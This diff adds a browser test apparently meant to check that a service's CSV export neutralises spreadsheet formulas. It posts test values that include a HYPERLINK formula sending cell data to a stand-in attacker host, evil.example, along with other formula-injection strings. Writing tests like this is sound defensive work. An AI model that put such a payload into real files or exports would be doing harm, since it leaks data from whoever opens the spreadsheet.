@@ -197,3 +197,25 @@ def test_an_empty_search_shows_no_importance_section_and_asks_for_none(page, ser
     page.wait_for_timeout(500)  # a refresh or two
     assert "Importance unavailable" not in page.inner_text("main")
     assert asked == []
+
+
+def test_the_csv_download_does_not_hand_a_spreadsheet_a_formula(page, service, api):
+    """Texts starting with = + - @ get an apostrophe (not run when the file is opened); numbers stay numbers."""
+    import csv
+
+    fill.put(api, fill.exp_path("formulas"), {"scheduler": {"Manual": None}})
+    body = {
+        "status": "DONE",
+        "hyperparameters": {"h": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plain": "sgd"},
+        "results": {"loss": -1.5, "tag": "@SUM(A1)", "sign": "+1", "dash": "-2+3"},
+    }
+    assert api.post(fill.exp_path("formulas") + "jobs/", content=json.dumps(body)).status_code == 201
+    open_experiment(page, service, "formulas")
+    with page.expect_download() as caught:
+        page.click('button[data-action="download-csv"]')
+    rows = list(csv.DictReader(Path(caught.value.path()).read_text(encoding="utf-8").splitlines()))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["hp.h"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert (row["res.tag"], row["res.sign"], row["res.dash"]) == ("'@SUM(A1)", "'+1", "'-2+3")
+    assert (row["hp.plain"], row["res.loss"]) == ("sgd", "-1.5")
